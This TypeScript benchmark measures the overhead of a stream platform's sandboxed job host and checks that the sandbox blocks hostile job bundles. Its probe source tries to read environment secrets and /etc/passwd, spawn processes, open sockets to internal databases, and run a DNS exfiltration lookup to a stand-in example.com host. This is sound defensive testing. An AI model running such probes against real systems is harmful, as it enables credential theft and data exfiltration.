/**
 * npm run bench -- isolation [--records N] [--seconds S] [--rounds R] [--rate TX_PER_S]
 *
 * What the job host's sandbox costs and what it stops, with the fraud-detection job in a real job host (a child
 * process, as the worker forks it: apps/worker/src/jobs/job-host-forks.ts), Kafka in and out, LSM state, checkpoints
 * as a deployment gets them (DEFAULT_CHECKPOINTING: every 10 s, at-least-once), one rule that alerts on every
 * transaction (so each transaction is one alert).
 * - sandboxed: the job host as the worker forks it (Node's permission model: its code and its own folder only, no
 *   processes or threads; allow-list environment; heap and stall limits), on Kafka as its tenant (SASL/SCRAM on the
 *   tenants' listener, ACLs).
 * - open: the same fork without the permission model (ForkOptions.permissions false), on the platform's Kafka
 *   listener: the baseline. Both reach S3 through the worker's blob broker (a job host has no other way), so its
 *   cost is in both and not in the ratio.
 * Each round runs both, in alternating order, on fresh topics:
 * 1. throughput: N transactions produced ahead, then the job host started; alerts per second from the first alert
 *    to the last (start-up left out);
 * 2. latency: then S seconds at a fixed rate (--rate, or 40% of the first throughput measured, the same for both),
 *    the first 3 s uncounted; event-time latency = alert read − the transaction's scheduled time (its event time).
 * Ratios are of medians over the rounds (sandboxed ÷ open). Then the hostile bundles, each in a sandboxed job host:
 * load-time probes (environment secret, spawn, thread, a machine file, the other job hosts' folders, a write
 * outside its folder, TCP to Postgres, Redis, S3 and the platform's Kafka listener, an HTTP fetch, UDP, a DNS query, the S3 secret in its environment, a heap
 * snapshot) reported by the job itself, and a job that loops forever and one
 * that allocates without end (stopped by the stall and heap limits, set to 4 s and 128 MiB here), and one that emits a
 * 20 MiB record (refused by its sink). A probe counts as
 * blocked when it failed. Ends with one JSON line.
 */
import { randomBytes } from 'node:crypto';
import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { buildBundle } from '@weir/bundle';
import { deadLetterTopic, tenantTopicPrefix } from '@weir/engine';
import { createBlobStore } from '@weir/blob';
import { loadConfig } from '@weir/config';
import { createKafkaConnector } from '@weir/kafka';
import type { Alert } from '../examples/fraud-detection';
import { produceTransactions } from '../apps/cli/src/generate/produce-transactions';
import { DEFAULT_CHECKPOINTING } from '../apps/control-plane/src/savepoints/checkpointing-settings';
import { forkJobHost } from '../apps/worker/src/jobs/job-host-forks';
import { DEFAULT_JOB_HOST_LIMITS } from '../apps/worker/src/jobs/job-host-limits';
import { JobProcess } from '../apps/worker/src/jobs/job-process';
import { TenantKafkaAccess } from '../apps/worker/src/kafka-access/tenant-kafka-access';
import { tenantKafkaSecret } from '../apps/worker/src/kafka-access/tenant-kafka-secret';
import { everyTx, fraudBundle } from '../test/control-plane/rules/support';
import { numberArgument as argument } from './_arguments';
import { LatencyRecorder, median, nowMs, printJsonLine, printTable, ratio } from './_latency';

const RECORDS = argument('records', 150_000);
const SECONDS = argument('seconds', 15);
const ROUNDS = argument('rounds', 3);
const FIXED_RATE = argument('rate', 0);
const WARMUP_MS = 3_000;
/** Event-time spacing of the backlog: transactions per second of event time. */
const BACKLOG_EVENT_RATE = 5_000;
const PARTITIONS = 2;
const STREAM = { seed: 20_261_204 };
const SECRET = `postgres://weir_app:bench-secret-${randomBytes(4).toString('hex')}@127.0.0.1:5432/weir`;

type Variant = 'sandboxed' | 'open';

interface Round {
  readonly variant: Variant;
  readonly throughput: number;
  readonly p50: number;
  readonly p99: number;
  readonly alerts: number;
}

const config = loadConfig();
/** The worker's object store, through which both variants' job hosts reach S3 (they have no other way). */
const workerBlobs = createBlobStore(config);
const kafka = createKafkaConnector({ brokers: config.WEIR_KAFKA_BROKERS, clientId: 'weir-bench-isolation' });
const kafkaAccess = new TenantKafkaAccess(kafka.admin(), config.WEIR_KAFKA_TENANT_BROKERS ?? config.WEIR_KAFKA_BROKERS, () => tenantKafkaSecret(config));
const run = randomBytes(3).toString('hex');
const tenantId = `benchiso${run}`;
const cleanups: (() => Promise<void>)[] = [];

async function topicsFor(name: string) {
  const p = `${tenantTopicPrefix(tenantId)}${name}.`;
  const topics = { transactionsTopic: `${p}transactions`, rulesTopic: `${p}rules`, alertsTopic: `${p}alerts`, shadowAlertsTopic: `${p}shadow-alerts`, ruleAcksTopic: `${p}rule-acks` };
  const admin = kafka.admin();
  await admin.ensureTopics([
    ...[topics.transactionsTopic, topics.alertsTopic, topics.shadowAlertsTopic].map((topic) => ({ topic, partitions: PARTITIONS })),
    ...[topics.rulesTopic, topics.ruleAcksTopic].map((topic) => ({ topic, partitions: 1 })),
  ]);
  await admin.close();
  cleanups.push(async () => {
    const a = kafka.admin();
    await a.deleteTopics([...Object.values(topics), deadLetterTopic(tenantId, name)]).catch(() => undefined);
    await a.close();
  });
  return topics;
}

/** A job host for `jobId` running the bundle at `bundlePath`, forked as `variant`. */
async function startHost(variant: Variant, jobId: string, bundlePath: string, limits = DEFAULT_JOB_HOST_LIMITS): Promise<JobProcess> {
  // Sandboxed as the worker runs it: on the tenants' listener, as the tenant (SASL/SCRAM, ACLs).
  const identity = variant === 'sandboxed' && config.WEIR_KAFKA_TENANT_BROKERS ? { kafka: await kafkaAccess.forTenant(tenantId) } : {};
  const host = new JobProcess(
    { tenantId, jobId, bundlePath, ...identity, parallelism: { default: 1 }, maxParallelism: 8, deadLetterTopic: deadLetterTopic(tenantId, jobId), checkpointing: DEFAULT_CHECKPOINTING },
    workerBlobs,
    forkJobHost({ limits, ...(variant === 'open' ? { permissions: false } : {}) }),
    limits,
  );
  cleanups.push(async () => host.kill());
  await host.run();
  return host;
}

/** Reads `topic` from the earliest offset, handing each batch and its arrival time to `onBatch`, until `done()`. */
async function readAlerts(topic: string, onBatch: (alerts: Alert[], atMs: number) => void, done: () => boolean, deadlineMs: number, partitions = PARTITIONS): Promise<void> {
  const reader = kafka.reader({ readerId: `bench-iso-${randomBytes(3).toString('hex')}`, assignments: Array.from({ length: partitions }, (_, partition) => ({ topic, partition, offset: 'earliest' as const })) });
  await reader.start();
  try {
    const deadline = Date.now() + deadlineMs;
    while (!done() && Date.now() < deadline) {
      const records = await reader.poll(5_000, 50);
      if (records.length > 0) onBatch(records.map((r) => JSON.parse(r.value!.toString()) as Alert), nowMs());
    }
  } finally {
    await reader.close();
  }
}

async function measure(variant: Variant, index: number, dir: string, rate: () => number): Promise<Round> {
  const jobId = `${variant}-${index}`;
  const topics = await topicsFor(jobId);
  const built = await fraudBundle(topics);
  const bundlePath = join(dir, `${jobId}.js`);
  await writeFile(bundlePath, built.code);
  const writer = kafka.writer({ writerId: `bench-iso-rules-${run}-${index}` });
  await writer.start();
  await writer.send([{ topic: topics.rulesTopic, key: 'every-tx', value: JSON.stringify({ ...everyTx(), version: 1 }) }]);
  await writer.close();
  // The backlog: every transaction due at once, their event times BACKLOG_EVENT_RATE apart (the watermark must move
  // through them: the job judges a transaction once its out-of-orderness bound has passed).
  const backlogStart = Date.now() - Math.ceil((RECORDS / BACKLOG_EVENT_RATE) * 1000) - 1_000;
  await produceTransactions(kafka, { ...STREAM, ratePerSec: BACKLOG_EVENT_RATE }, { topic: topics.transactionsTopic, count: RECORDS, partitions: PARTITIONS, writerId: `bench-iso-${run}-${index}`, startTime: backlogStart });
  const host = await startHost(variant, jobId, bundlePath);

  let seen = 0;
  let first: { at: number; n: number } | undefined;
  let last = 0;
  await readAlerts(topics.alertsTopic, (alerts, at) => {
    seen += alerts.length;
    first ??= { at, n: seen };
    last = at;
    // The last second of event time waits for the watermark, which only the next phase's transactions move.
  }, () => seen >= RECORDS - BACKLOG_EVENT_RATE, 300_000);
  const throughput = first && last > first.at ? (seen - first.n) / ((last - first.at) / 1000) : Number.NaN;

  // Then a fixed rate, event time = the scheduled time, the first seconds uncounted.
  const latency = new LatencyRecorder();
  const paced = rate() || Math.round(throughput * 0.4);
  const startTime = Date.now() + 500;
  const total = Math.round((paced * (SECONDS * 1000 + WARMUP_MS)) / 1000);
  let paceSeen = 0;
  const reading = readAlerts(topics.alertsTopic, (alerts, at) => {
    for (const alert of alerts) {
      if (alert.ts < startTime) continue;
      paceSeen += 1;
      if (alert.ts >= startTime + WARMUP_MS) latency.record(at - alert.ts);
    }
  }, () => paceSeen >= total, SECONDS * 1000 + WARMUP_MS + 60_000);
  await produceTransactions(kafka, { ...STREAM, seed: STREAM.seed + 1, ratePerSec: paced }, { topic: topics.transactionsTopic, count: total, partitions: PARTITIONS, writerId: `bench-iso-paced-${run}-${index}`, startTime });
  await reading;
  const summary = latency.summary();
  latency.destroy();
  host.kill();
  await host.exited;
  process.stdout.write(`  ${variant}: ${Math.round(throughput)} alerts/s on the backlog; at ${paced} tx/s p50 ${summary.p50.toFixed(1)} ms, p99 ${summary.p99.toFixed(1)} ms (${summary.count} alerts)\n`);
  return { variant, throughput, p50: summary.p50, p99: summary.p99, alerts: summary.count };
}

const PROBE_SOURCE = (input: string, output: string) => `
import { execSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { resolve4 } from 'node:dns';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { connect } from 'node:net';
import { dirname } from 'node:path';
import { writeHeapSnapshot } from 'node:v8';
import { Worker } from 'node:worker_threads';
import { defineJob, json, kafkaSink, kafkaSource } from '@weir/engine';
const met: Record<string, string> = {};
const attempt = (name: string, fn: () => unknown) => {
  try { fn(); met[name] = 'ran'; } catch (err) { met[name] = (err as { code?: string }).code ?? String((err as Error).message); }
};
attempt('read the worker secret in its environment', () => { if (!process.env.WEIR_PG_URL) throw Object.assign(new Error('absent'), { code: 'ABSENT' }); });
attempt('spawn a process', () => execSync('id'));
attempt('start a worker thread', () => new Worker('1', { eval: true }).terminate());
attempt('read a machine file (/etc/passwd)', () => readFileSync('/etc/passwd'));
attempt("list the other job hosts' folders", () => readdirSync(dirname(process.cwd())));
attempt('write outside its folder', () => writeFileSync('/tmp/weir-bench-hostile-${run}', 'x'));
for (const [name, port] of [['open a socket to Postgres', 5432], ['open a socket to Redis', 6379], ['open a socket to S3', 4568], ["open a socket to the platform's Kafka listener", ${config.WEIR_KAFKA_BROKERS[0]!.split(':')[1]}]] as const) {
  met[name] = 'pending';
  try {
    const socket = connect(port, '127.0.0.1');
    socket.on('connect', () => { met[name] = 'ran'; socket.destroy(); });
    socket.on('error', (err: NodeJS.ErrnoException) => { met[name] = err.code ?? err.message; });
  } catch (err) { met[name] = (err as { code?: string }).code ?? String((err as Error).message); }
}
met['fetch from Redis (HTTP)'] = 'pending';
try {
  fetch('http://127.0.0.1:6379/').then(() => { met['fetch from Redis (HTTP)'] = 'ran'; }, (err: { cause?: { code?: string }; message: string }) => { met['fetch from Redis (HTTP)'] = err.cause?.code ?? err.message; });
} catch (err) { met['fetch from Redis (HTTP)'] = (err as { code?: string }).code ?? String((err as Error).message); }
attempt('send UDP (DNS to 8.8.8.8)', () => createSocket('udp4').send('x', 53, '8.8.8.8'));
attempt('resolve a name of its own (a DNS query carries data out)', () => resolve4('exfil-${run}.example.com', () => undefined));
attempt('read the S3 secret in its environment', () => { if (!process.env.WEIR_S3_SECRET_ACCESS_KEY) throw Object.assign(new Error('absent'), { code: 'ABSENT' }); });
attempt("dump the job host's memory (heap snapshot)", () => writeHeapSnapshot());
export default defineJob({ name: 'hostile', maxParallelism: 8 }, (job) => {
  job.source('in', kafkaSource<unknown>({ topic: '${input}', format: json() })).map('report', () => ({ ...met })).sink('out', kafkaSink<unknown>({ topic: '${output}', format: json() }));
});
`;

const RUNAWAY_SOURCE = (input: string, output: string) => `
import { defineJob, json, kafkaSink, kafkaSource } from '@weir/engine';
type R = { kind: string };
export default defineJob({ name: 'runaway', maxParallelism: 8 }, (job) => {
  job.source('in', kafkaSource<R>({ topic: '${input}', format: json() }))
    .map('work', (r) => {
      if (r.kind === 'loop') for (;;) { /* never yields */ }
      if (r.kind === 'huge') return { blob: 'x'.repeat(20 * 1024 * 1024) };
      const all: number[][] = [];
      for (;;) all.push(new Array(100_000).fill(1));
    })
    .sink('out', kafkaSink<unknown>({ topic: '${output}', format: json() }));
});
`;

async function bundleOf(dir: string, name: string, source: string): Promise<string> {
  const entry = join(dir, `${name}.ts`);
  await writeFile(entry, source);
  const built = await buildBundle(entry);
  const path = join(dir, `${name}.js`);
  await writeFile(path, built.code);
  return path;
}

async function hostile(dir: string): Promise<{ what: string; met: string; blocked: boolean }[]> {
  const limits = { maxHeapMb: 128, stallTimeoutMs: 4_000 };
  const results: { what: string; met: string; blocked: boolean }[] = [];
  const io = async (name: string) => {
    const input = `${tenantTopicPrefix(tenantId)}${name}.in`;
    const output = `${tenantTopicPrefix(tenantId)}${name}.out`;
    const admin = kafka.admin();
    await admin.ensureTopics([{ topic: input, partitions: 1 }, { topic: output, partitions: 1 }]);
    await admin.close();
    cleanups.push(async () => {
      const a = kafka.admin();
      await a.deleteTopics([input, output, deadLetterTopic(tenantId, name)]).catch(() => undefined);
      await a.close();
    });
    return { input, output };
  };
  const send = async (topic: string, value: unknown) => {
    const writer = kafka.writer({ writerId: `bench-iso-hostile-${randomBytes(3).toString('hex')}` });
    await writer.start();
    await writer.send([{ topic, partition: 0, value: JSON.stringify(value) }]);
    await writer.close();
  };

  const probe = await io('probe');
  const probeHost = await startHost('sandboxed', 'probe', await bundleOf(dir, 'probe', PROBE_SOURCE(probe.input, probe.output)), limits);
  // The sockets answer (or fail) within milliseconds; a second lets them.
  await new Promise((r) => setTimeout(r, 1_000));
  await send(probe.input, {});
  let report: Record<string, string> | undefined;
  await readAlerts(probe.output, (records) => (report ??= records[0] as unknown as Record<string, string>), () => report !== undefined, 30_000, 1);
  probeHost.kill();
  for (const [what, met] of Object.entries(report ?? {})) results.push({ what, met, blocked: met !== 'ran' });

  for (const kind of ['loop', 'grow', 'huge'] as const) {
    const topics = await io(`runaway-${kind}`);
    const host = await startHost('sandboxed', `runaway-${kind}`, await bundleOf(dir, `runaway-${kind}`, RUNAWAY_SOURCE(topics.input, topics.output)), limits);
    await send(topics.input, { kind });
    await Promise.race([host.exited, new Promise((r) => setTimeout(r, 30_000))]);
    const what = kind === 'loop' ? 'loop forever' : kind === 'grow' ? 'allocate without end' : 'emit a 20 MiB record';
    results.push({ what, met: host.state === 'FAILED' ? host.failure! : `still ${host.state}`, blocked: host.state === 'FAILED' });
    host.kill();
  }
  return results;
}

async function main(): Promise<void> {
  // The worker's own secret, which a job host must not inherit (the allow-list environment).
  process.env.WEIR_PG_URL = SECRET;
  const dir = await mkdtemp(join(tmpdir(), 'weir-bench-isolation-'));
  let firstThroughput = 0;
  const rate = () => FIXED_RATE || Math.round(firstThroughput * 0.4);
  try {
    process.stdout.write(`isolation: the fraud job in a job host, ${RECORDS} transactions of backlog, then ${SECONDS} s at a fixed rate; ${ROUNDS} rounds\n`);
    const rounds: Round[] = [];
    for (let i = 0; i < ROUNDS; i++) {
      const order: Variant[] = i % 2 === 0 ? ['open', 'sandboxed'] : ['sandboxed', 'open'];
      for (const variant of order) {
        const round = await measure(variant, rounds.length, dir, rate);
        if (firstThroughput === 0) firstThroughput = round.throughput;
        rounds.push(round);
      }
    }
    const of = (variant: Variant, pick: (r: Round) => number) => median(rounds.filter((r) => r.variant === variant).map(pick));
    const results = await hostile(dir);
    printTable(rounds.map((r) => ({ variant: r.variant, alerts_per_s: Math.round(r.throughput), p50_ms: r.p50, p99_ms: r.p99, samples: r.alerts })), 'fraud job, sandboxed vs open job host');
    printTable(results, 'hostile bundles in a sandboxed job host');
    printJsonLine({
      bench: 'isolation',
      throughput_ratio: Number(ratio(of('sandboxed', (r) => r.throughput), of('open', (r) => r.throughput)).toFixed(3)),
      p99_ratio: Number(ratio(of('sandboxed', (r) => r.p99), of('open', (r) => r.p99)).toFixed(3)),
      hostile_cases: results.length,
      hostile_blocked: results.filter((r) => r.blocked).length,
      throughput_sandboxed: Math.round(of('sandboxed', (r) => r.throughput)),
      throughput_open: Math.round(of('open', (r) => r.throughput)),
      p99_sandboxed_ms: Number(of('sandboxed', (r) => r.p99).toFixed(1)),
      p99_open_ms: Number(of('open', (r) => r.p99).toFixed(1)),
      rate: rate(),
      rounds: ROUNDS,
    });
  } finally {
    for (const cleanup of cleanups.reverse()) await cleanup().catch(() => undefined);
    await rm(dir, { recursive: true, force: true });
  }
}

main().then(
  () => process.exit(0),
  (err: unknown) => {
    console.error(err);
    process.exit(1);
  },
);
